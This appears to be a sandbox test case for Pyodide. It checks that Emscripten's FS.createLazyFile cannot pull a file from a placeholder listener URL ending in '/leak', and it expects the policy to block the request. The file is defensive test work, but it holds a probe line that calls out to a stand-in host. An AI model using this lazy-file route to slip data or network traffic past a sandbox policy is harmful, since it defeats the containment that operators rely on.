# outcome: crashed|error|ok
# prints: tried
# never: stolen
# Emscripten's own way to bring a file in: a synchronous request in the middle of a read, which the policy fails.
import pyodide_js
FS = pyodide_js.FS
print("tried", FS.createLazyFile("/", "lazy.txt", "http://{listener}/leak", True, False) is not None)
print("stolen", open("/lazy.txt").read())
